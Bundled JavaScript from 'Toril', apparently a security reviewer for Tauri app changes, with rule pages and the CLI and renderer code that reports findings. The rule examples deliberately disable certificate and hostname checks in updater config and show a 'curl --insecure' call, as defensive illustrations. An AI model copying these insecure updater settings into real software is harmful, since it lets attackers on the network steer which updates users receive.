  "updates/source-added": '# Updates are announced from another place: `updates/source-added`\n\nSeverity: high for another host or plain HTTP; medium for another path of a host that was asked before; low for an app that is new.\n\nSince: 0.1.0\n\n`plugins.updater.endpoints` (in Tauri 1: `tauri.updater.endpoints`) has a URL that it had not.\n\nThe app\'s own code names other endpoints while it runs (medium, possible): which, only running it tells.\n\n## Why it matters\n\nThe server says which version there is and where it is. The signature keeps it from shipping its own code, and not from holding a fix back.\n\n## What to do\n\nAsk who runs the host. A mirror that you don\'t run sees every installation and decides what it is offered.\n\n## When it says nothing\n\n- The endpoints change their order, or one of them goes.\n- The app moves from Tauri 1 to 2 with its endpoints.\n- Code that gives the updater endpoints while the app runs. Toril doesn\'t follow that.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags another host\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n       "pubkey": "dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk6IDlBMUM0NjMxREZCNDRGMjYKUldRbVQ3VGZNVVljbWdBQkFnTUVCUVlIQ0FrS0N3d05EZzhRRVJJVEZCVVdGeGdaR2hzY0hSNGYK",\n       "endpoints": [\n+        "https://mirror.example.net/{{target}}/latest.json",\n         "https://updates.example.com/latest.json"\n       ],\n```\n\nA server at `https://mirror.example.net/{{target}}/latest.json` can newly tell the app which update to install:\n\n```\nGET https://mirror.example.net/%7B%7Btarget%7D%7D/latest.json\n```\n\n### It says nothing when endpoints change their order\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n       "pubkey": "dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk6IDlBMUM0NjMxREZCNDRGMjYKUldRbVQ3VGZNVVljbWdBQkFnTUVCUVlIQ0FrS0N3d05EZzhRRVJJVEZCVVdGeGdaR2hzY0hSNGYK",\n       "endpoints": [\n-        "https://updates.example.com/latest.json",\n-        "https://b.example/{{arch}}"\n+        "https://b.example/{{arch}}",\n+        "https://updates.example.com/latest.json"\n       ],\n       "requireSignedVersion": true\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the updater](https://v2.tauri.app/plugin/updater/)\n- [Tauri 1: the updater](https://v1.tauri.app/v1/guides/distribution/updater)\n- [The Update Framework: attacks on updates](https://theupdateframework.github.io/specification/latest/)\n',
  "updates/transport-unchecked": '# The way to the update server is unchecked: `updates/transport-unchecked`\n\nSeverity: high; low for an app that is new.\n\nSince: 0.1.0\n\n`dangerousInsecureTransportProtocol`, `dangerousAcceptInvalidCerts` or `dangerousAcceptInvalidHostnames` of `plugins.updater` was turned on. The latter two count from version 2.10 of the updater on.\n\n## Why it matters\n\nThe signature of an update is checked in any case. Which update is offered, and that one is offered at all, is only as sure as the connection.\n\n## What to do\n\nUse HTTPS with an ordinary certificate, also inside a company.\n\n## When it says nothing\n\n- `false` is written out, which is the default.\n- The setting is on in an app without an updater.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags certificates of anyone\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n         "https://updates.example.com/latest.json"\n       ],\n-      "requireSignedVersion": true\n+      "requireSignedVersion": true,\n+      "dangerousAcceptInvalidCerts": true,\n+      "dangerousAcceptInvalidHostnames": true\n     }\n   }\n```\n\nWhoever is on the way between the app and its update server can newly answer the updater with any certificate:\n\n```\ncurl --insecure https://example.com/latest.json\n```\n\n### It says nothing when the default is written out\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n         "https://updates.example.com/latest.json"\n       ],\n-      "requireSignedVersion": true\n+      "requireSignedVersion": true,\n+      "dangerousAcceptInvalidCerts": false\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the updater](https://v2.tauri.app/plugin/updater/)\n- [CWE-295: improper certificate validation](https://cwe.mitre.org/data/definitions/295.html)\n- [CWE-319: transmission in cleartext](https://cwe.mitre.org/data/definitions/319.html)\n'
};
function rulePage(id) {
  return pages[id];
}

// src/renderers/summary-gaps.ts
var MOST_TOLD = 3;
var INDENT2 = "  ";
function notCheckedLines({ gaps }, { incomplete }, width, paint) {
  const blocking = groupGaps(gaps).flatMap((group) => group.blocking ? group.gaps : []);
  const others = gaps.filter((gap) => !gap.blocking && gap.since === "head").length;
  const before = asBefore(gaps).length;
  const counts = [
    ...blocking.length === 0 ? [] : [incomplete === "fail" ? `${blocking.length}, which closes the gate too` : `${blocking.length}`],
    ...others === 0 ? [] : [`${others} that ${others === 1 ? "doesn't" : "don't"} block`],
    ...before === 0 ? [] : [`${before} as before`]
  ];
  if (counts.length === 0) return [];
  return [
    ...wrap(`Not checked: ${counts.join("; ")}`, width, paint),
    ...blocking.slice(0, MOST_TOLD).flatMap((gap) => gapLine(gap, width, paint))
  ];
}
function gapLine(gap, width, paint) {
  const room = width - INDENT2.length - " …".length;
  const [first = "", ...rest] = wrap(`${code(placeInWords(gap), 40)} ${gap.message}`, room, paint);
  return [`${INDENT2}${first}${rest.length === 0 ? "" : " …"}`];
}

// src/renderers/summary-rows.ts
var INDENT3 = "  ";
var GAP = "  ";
var SEVERITY_WIDTH = 8;
var NUMBER_WIDTH = 5;
var WIDE2 = 76;
var MOST_LINES = { grave: 3, minor: 2 };
function digestLines(sections, threshold, width, paint) {
  const numbers = sections.flatMap(({ rows }) => rows.map((row) => numbersInWords(row.findings)[0] ?? ""));
  const layout = layoutFor(width, Math.max(NUMBER_WIDTH, ...numbers.map((each) => each.length)));
  return sections.flatMap(({ who, rows }) => [
    ...wrap(who, width - INDENT3.length, paint).map((line) => INDENT3 + line),
    ...rows.flatMap((row) => rowLines(row, threshold, layout, paint))
  ]);
}
function layoutFor(width, numbers) {
  const left = INDENT3.length + numbers + 1 + SEVERITY_WIDTH + 1;
  const right = width >= WIDE2 ? Math.floor(width / 3.4) : 0;
  return { numbers, left, room: width - left - (right === 0 ? 0 : right + GAP.length), right };
}
function rowLines(row, threshold, layout, paint) {
  const { room, right, left } = layout;
  const [first = "", ...others] = numbersInWords(row.findings);
  const isGrave = threshold !== "never" && atLeast(row.severity, threshold);
  const place = shortened(placeOf(row), right === 0 ? room : right);
  const lines = [
    ...atMost(isGrave ? MOST_LINES.grave : MOST_LINES.minor, row.does, room, paint),
    ...others.length === 0 || !isGrave ? [] : wrap(`also ${others.length === 1 ? "finding" : "findings"} ${others.join(", ")}`, room, paint),
    ...right === 0 ? [place] : []
  ];
  const name = row.severity.toUpperCase();
  const lead = [
    `${INDENT3}${first.padStart(layout.numbers)} `,
    paint.as(SEVERITY_WORDS[row.severity].ansi, name),
    " ".repeat(SEVERITY_WIDTH - name.length + 1)
  ].join("");
  return lines.map((line, index) => {
    if (index > 0) return " ".repeat(left) + line;
    if (right === 0) return lead + line;
    const between = room - visibleWidth(line) + GAP.length + right - widthOf(place);
    return `${lead}${line}${" ".repeat(between)}${place}`;
  });
}
function atMost(count, sentence, width, paint) {
  const lines = wrap(sentence, width, paint);
  if (lines.length === 0) return [""];
  if (lines.length <= count) return lines;
  const shorter = wrap(sentence, width - " …".length, paint).slice(0, count);
  return shorter.map((line, index) => index === count - 1 ? `${line} …` : line);
}
function placeOf(row) {
  const { first, files, lines } = placesOf(row);
  const path = first.path.split("/").slice(-2).join("/");
  const more = files > 1 ? ` +${files - 1} ${files === 2 ? "file" : "files"}` : lines > 1 ? ` +${lines - 1} ${lines === 2 ? "line" : "lines"}` : "";
  return inert(path === "" ? "the repository" : `${path}:${first.line}${more}`);
}
function shortened(text, width) {
  if (widthOf(text) <= width) return text;
  let [kept, used] = ["", 1];
  for (const character of Array.from(text).reverse()) {
    used += widthOf(character);
    if (used > width) break;
    kept = character + kept;
  }
  return `…${kept}`;
}
var ANSI = new RegExp(`${String.fromCharCode(27)}\\[[0-9;]*m`, "g");
function visibleWidth(line) {
  return widthOf(line.replace(ANSI, ""));
}

// src/renderers/summary.ts
var DEFAULT_WIDTH2 = 100;
var NARROWEST = 40;
var MOST_LINES2 = 32;
function renderSummary(review2, options) {
  const width = Math.max(NARROWEST, options.width ?? DEFAULT_WIDTH2);
  const paint = painter(options.colour);
  const first = opening(review2, options, width, paint);
  const last = ending(review2, options, width, paint);
  const shown2 = options.shown ?? numbered(review2.findings);
  const rows = rowsWithin(MOST_LINES2 - first.length - last.length, shown2, options, width, paint);
  return printed([...first, ...rows.length === 0 ? [] : ["", ...rows], ...last]);
}
function renderQuiet(review2, { colour, policy }) {
  return printed(headline(review2, policy, Number.POSITIVE_INFINITY, painter(colour)));
}
function rowsWithin(room, findings, { policy: { failOn } }, width, paint) {
  for (const coarseness of COARSENESS) {
    const sections = digestOf(findings, failOn, coarseness);
    if (sections.length + sections.flatMap(({ rows }) => rows).length > room) continue;
    const lines = digestLines(sections, failOn, width, paint);
    if (lines.length <= room) return lines;
  }
  return digestLines(digestOf(findings, failOn, "kind"), failOn, width, paint);
}
function headline(review2, policy, width, paint) {
  const lead = `${review2.verdict.toUpperCase()}  `;
  return wrap(decisionInWords(review2, policy), width - lead.length, paint).map(
    (line, index) => paint.as(BOLD, index === 0 ? lead + line : " ".repeat(lead.length) + line)
  );
}
function opening(review2, { policy }, width, paint) {
  const change = [review2.base, review2.head].map((side) => revisionInWords(named(side))).join(" → ");
  const counts = countsInWords(review2.findings);
  const said = [appsInWords(review2.apps), change, ...counts === "" ? [] : [counts]];
  return [...headline(review2, policy, width, paint), ...wrap(said.join(" · "), width, paint)];
}
function named({ rev, sha }) {
  const short = /^[0-9a-f]{40,64}$/.test(rev) ? rev.slice(0, 7) : rev.split("/").slice(-2).join("/");
  return { rev: short, sha };
}
var MOST_APPS = 3;
function appsInWords(apps) {
  if (apps.length === 0) return "no Tauri app";
  const shown2 = apps.slice(0, MOST_APPS).map(({ name, root, tauri }) => {
    const version = tauri === null ? "" : `, Tauri ${code(tauri)}`;
    return `${code(name, 40)} (${code(root === "" ? "." : root, 60)}${version})`;
  });
  const left = apps.length - shown2.length;
  return [...shown2, ...left === 0 ? [] : [`${left} more ${left === 1 ? "app" : "apps"}`]].join(", ");
}
function ending(review2, { policy, notes = [], shown: shown2 }, width, paint) {
  const { narrowings, findings, gaps } = review2;
  const sentences = [
    narrowings.length === 0 ? "" : `No longer possible: ${narrowings.length}`,
    turnedOffInWords(review2),
    ...notes
  ].filter((sentence) => sentence !== "");
  const [first] = shown2 ?? numbered(findings);
  const more = [
    ...findings.length + narrowings.length + gaps.length === 0 ? [] : [code("--details")],
    ...first === void 0 ? [] : [code(`toril explain ${first.number}`)]
  ].join(" · ");
  return [
    ...withSpace2([
      ...sentences.flatMap((sentence) => wrap(sentence, width, paint)),
      ...notCheckedLines(review2, policy, width, paint)
    ]),
    ...withSpace2(more === "" ? [] : wrap(`More: ${more}`, width, paint).map((line) => paint.as(DIM, line)))
  ];
}
function withSpace2(lines) {
  return lines.length === 0 ? [] : ["", ...lines];
}

// src/renderers/text.ts
var NARROWEST2 = 40;
function renderText(review2, options) {
  const width = Math.max(NARROWEST2, options.width ?? DEFAULT_WIDTH);
  const paint = painter(options.colour);
  const shown2 = options.shown ?? numbered(review2.findings);
  const rule = paint.as(DIM, "─".repeat(width));
  return printed([
    ...opening2(review2, width, paint),
    ...shown2.flatMap((finding) => [
      ...["", rule, ""],
      ...findingLines(finding, width, options.excerpts ?? /* @__PURE__ */ new Map(), paint)
    ]),
    ...narrowingLines(review2, rule, width, paint),
    ...gapLines(review2, rule, width, paint),
    ...["", rule, ""],
    ...wrap(verdictInWords(review2), width, paint).map((line) => paint.as(BOLD, line)),
    ...hint(shown2, paint),
    ...(options.notes ?? []).flatMap((note) => wrap(note, width, paint))
  ]);
}
function opening2(review2, width, paint) {
  const compared = `From ${revisionInWords(review2.base)} to ${revisionInWords(review2.head)}`;
  const apps = review2.apps.map(appInWords);
  const counts = countsInWords(review2.findings);
  return [
    ...wrap(headlineOf(review2), width, paint).map((line) => paint.as(BOLD, line)),
    "",
    ...wrap(`${compared}: ${apps.join("; ") || "no Tauri app"}`, width, paint),
    ...counts === "" ? [] : wrap(`${counted(review2.findings.length, "finding")}: ${counts}`, width, paint),
    ...wrapped(turnedOffInWords(review2), width, paint)
  ];
}
function wrapped(sentence, width, paint) {
  return sentence === "" ? [] : wrap(sentence, width, paint);
}
function narrowingLines({ narrowings }, rule, width, paint) {
  if (narrowings.length === 0) return [];
  return [
    ...["", rule, "", paint.as(BOLD, `No longer allowed (${narrowings.length})`), ""],
    ...orderNarrowings(narrowings).flatMap((narrowing) => [
      ...item(narrowing.title, width, paint),
      ...under(wrapAsIs(placeInWords(narrowing), width - 4, paint), paint)
    ])
  ];
}
function gapLines({ gaps }, rule, width, paint) {
  if (gaps.length === 0) return [];
  const before = asBefore(gaps).length;
  return [
    ...["", rule, "", paint.as(BOLD, `Not known (${gaps.length - before})`)],
    ...groupGaps(gaps).flatMap((group) => groupLines(group, width, paint)),
    ...before === 0 ? [] : ["", ...indented(wrap(asBeforeInWords(before), width - 2, paint))]
  ];
}
var MOST_LISTED = 10;
function groupLines({ blocking, heading, gaps }, width, paint) {
  const shown2 = blocking ? gaps : gaps.slice(0, MOST_LISTED);
  const left = gaps.length - shown2.length;
  return [
    "",
    ...indented(wrap(blocking ? heading : `${heading} (does not block)`, width - 2, paint)),
    ...shown2.flatMap((gap) => [
      ...item(gap.message, width, paint),
      ...under(wrapAsIs(placeInWords(gap), width - 4, paint), paint)
    ]),
    ...left === 0 ? [] : item(`${left} more, which \`--format json\` lists.`, width, paint)
  ];
}
function item(sentence, width, paint) {
  return indented(
    wrap(sentence, width - 4, paint).map((line, index) => index === 0 ? `- ${line}` : `  ${line}`)
  );
}
function under(lines, paint) {
  return lines.map((line) => `    ${paint.as(DIM, line)}`);
}
function hint([worst], paint) {
  return worst === void 0 ? [] : wrap(`More about a finding: ${code(`toril explain ${worst.finding.rule}`)}`, 1e3, paint);
}

// src/hosts/cli/view-of.ts
function viewOf({ review: review2, policy, note }, filters) {
  const { shown: shown2, hidden } = filtered(review2, filters, policy.failOn);
  const isShown = new Set(shown2);
  return {
    policy,
    shown: numbered(review2.findings).filter(({ finding }) => isShown.has(finding)),
    notes: [note, ...mistyped(review2, filters), hidden].filter((each) => each !== "")
  };
}
function mistyped(review2, filters) {
  const names = review2.findings.flatMap(({ about }) => about.pages);
  return whoOfNoFinding(review2, filters).map(
    (who) => `No finding is about ${code(who)}${didYouMean(who, names)}`
  );
}

// src/hosts/cli/text-of.ts
var WIDEST = 120;
function layoutFor2({ colour, width }) {
  return width === void 0 ? { colour } : { colour, width: Math.min(width, WIDEST) };
}
async function textOf2(reviewed, { text, filters }, layout) {
  const { review: review2, sides } = reviewed;
  const view = { ...layout, ...viewOf(reviewed, filters) };
  switch (text) {
    case "quiet":
      return renderQuiet(review2, view);
    case "summary":
      return renderSummary(review2, view);
    case "details": {
      const findings = view.shown.map(({ finding }) => finding);
      return renderText(review2, { ...view, excerpts: await excerptsFor(findings, sides.base, sides.head) });
    }
  }
}

// src/hosts/cli/explain-command.ts
var { readFile } = process.getBuiltinModule("node:fs/promises");
async function explain(command, terminal) {
  const { what, from } = command;
  const layout = layoutFor2(terminal);
  if (from !== null) {
    const found = pick(await findingsIn(from), what, from);
    terminal.show(`${renderFinding(found, layout)}
${renderRule(pageOf(found.finding.rule), layout)}`);
  } else if (isNumber(what)) await explainNumber(what, command.review, terminal);
  else terminal.show(renderRule(pageOf(what), layout));
  return 0;
}
async function explainNumber(number, command, terminal) {
  await withReview(command, terminal, async ({ review: review2, sides }) => {
    const found = numbered(review2.findings).find((each) => String(each.number) === number);
    if (found === void 0) throw new SetupError(noFinding(number, review2.findings.length));
    const excerpts = await excerptsFor([found.finding], sides.base, sides.head);
    const more = `
More about it: toril explain ${found.finding.rule}
`;
    terminal.show(renderFinding(found, { ...layoutFor2(terminal), excerpts }) + more);
  });
}
function noFinding(number, count) {
  if (count === 0) return `There is no finding ${number}: the review finds nothing new.`;
  const range = count === 1 ? "only finding 1" : `${count} findings, from 1 to ${count}`;
  return `There is no finding ${number}: the review has ${range}.`;
}
function isNumber(what) {
  return /^\d+$/.test(what);
}
function pageOf(rule) {
  const ids = rules.map(({ id }) => id);
  if (ids.includes(rule)) return rulePage(rule);
  const near = ids.filter((id) => id.endsWith(`/${rule}`) || id.startsWith(`${rule}/`) || id.includes(rule));
  const known = near.length > 0 ? near : ids;
  throw new SetupError(
    `There is no rule "${rule}". ${near.length > 0 ? "Did you mean" : "There are"}: ${known.join(", ")}`
  );
}
function pick(findings, what, from) {
  const index = findings.findIndex((each, at) => String(at + 1) === what || each.key === what);
  const finding = findings[index];
  if (finding !== void 0) return { number: index + 1, finding };
  throw new SetupError(`${from} has no finding "${what}"; it has ${findings.length}, counted from 1.`);
}
async function findingsIn(file) {
  let text;
  try {
    text = await readFile(file, "utf8");
  } catch {
    throw new SetupError(
      `${file} can't be read. Write it first with: toril review --format json --output ${file}`
    );
  }
  try {
    const review2 = JSON.parse(text);
    const schema = typeof review2 === "object" && review2 !== null ? Reflect.get(review2, "schema") : void 0;
    const findings = schema === "toril.review/1" ? Reflect.get(review2, "findings") : void 0;
    if (Array.isArray(findings) && findings.every(isFinding)) return findings;
  } catch {
  }
  throw new SetupError(
    `${file} holds no review. Write one with: toril review --format json --output ${file}`
  );
}
function isFinding(value) {
  if (typeof value !== "object" || value === null) return false;
  const field = (name) => Reflect.get(value, name);
  const witness = field("witness");
  return ["rule", "severity", "confidence", "path", "title", "message", "remedy", "base", "head", "key"].every(
    (name) => typeof field(name) === "string"
  ) && SEVERITIES.includes(field("severity")) && ["line", "column", "endLine"].every((name) => typeof field(name) === "number") && typeof witness === "object" && witness !== null && ["kind", "text", "platform"].every((name) => typeof Reflect.get(witness, name) === "string");
}

// src/hosts/cli/policy-command.ts
async function checkPolicy(command, terminal) {
  const file = command.file ?? POLICY_PATH;
  const reading = await readPolicyFile(file);
  if (!reading.ok) {
    terminal.show(`${reading.errors.map(errorLine).join("\n")}
`);
    return 1;
  }
  const { failOn, incomplete, rules: rules2 } = reading.policy;
  terminal.show(
    [
      `${file} can be used.`,
      `  fail-on: ${failOn}`,
      `  incomplete: ${incomplete}`,
      ...rules2.size === 0 ? [] : ["  rules:", ...[...rules2].map(([id, setting]) => `    ${id}: ${setting}`)],
      ""
    ].join("\n")
  );
  return 0;
}

// src/hosts/cli/known-rules.ts
function checkRulePatterns(patterns) {
  const ids = rules.map(({ id }) => id);
  const families = new Set(ids.map((id) => `${id.slice(0, id.indexOf("/"))}/*`));
  for (const pattern of patterns) {
    if (ids.some((id) => matchesWildcards(pattern, id))) continue;
    const near = didYouMean(pattern, [...families, ...ids]);
    throw new SetupError(`--rule ${pattern} names no rule${near || "; docs/rules.md lists them."}`);
  }
}

// src/hosts/cli/review-command.ts
async function review(command, terminal) {
  checkRulePatterns(command.filters.rule);
  await Promise.all(command.outputs.flatMap(({ file }) => file === null ? [] : [checkOutput(file)]));
  return withReview(command, terminal, async (reviewed) => {
    for (const output of command.outputs) await put(output, reviewed, command, terminal);
    return exitStatus(reviewed.review, reviewed.policy);
  });
}
function exitStatus({ verdict }, policy) {
  if (outcomeOf(verdict, policy) !== "fail") return 0;
  return verdict === "incomplete" ? 3 : 1;
}
async function put({ format, file }, reviewed, command, terminal) {
  const text = await rendered();
  if (file !== null) await writeOutput(file, text);
  else if (format === "text") terminal.show(text);
  else terminal.print(text);
  async function rendered() {
    switch (format) {
      case "json":
        return renderJson(reviewed.review, {
          version: VERSION,
          policy: reviewed.policy,
          repository: null
        });
      case "markdown":
        return renderMarkdown(reviewed.review, viewOf(reviewed, command.filters));
      case "sarif":
        return renderSarif(reviewed.review, (await import("./engine.js")).rules, VERSION);
      case "text":
        return textOf2(reviewed, command, {
          ...layoutFor2(terminal),
          colour: file === null && terminal.colour
        });
    }
  }
}

// src/hosts/cli/serve-command.ts
var { existsSync } = process.getBuiltinModule("node:fs");
var { dirname, join: join2 } = process.getBuiltinModule("node:path");
async function serve() {
  const app = await loadApp();
  await app.serve(process.env, home(import.meta.dirname));
  return 0;
}
async function loadApp() {
  try {
    return await import("./serve.js");
  } catch (error) {
    if (!isWithoutProbot(error)) throw error;
    throw new SetupError("The App needs Probot beside Toril. Install it with: npm install probot@14");
  }
}
function isWithoutProbot(error) {
  const isMissing = error instanceof Error && "code" in error && error.code === "ERR_MODULE_NOT_FOUND";
  return isMissing && error.message.includes("'probot'");
}
function home(folder) {
  if (existsSync(join2(folder, "app.yml"))) return folder;
  const parent = dirname(folder);
  if (parent === folder) throw new SetupError("Toril's own app.yml is missing. Install Toril again.");
  return home(parent);
}
export {
  checkPolicy,
  explain,
  review,
  serve
};
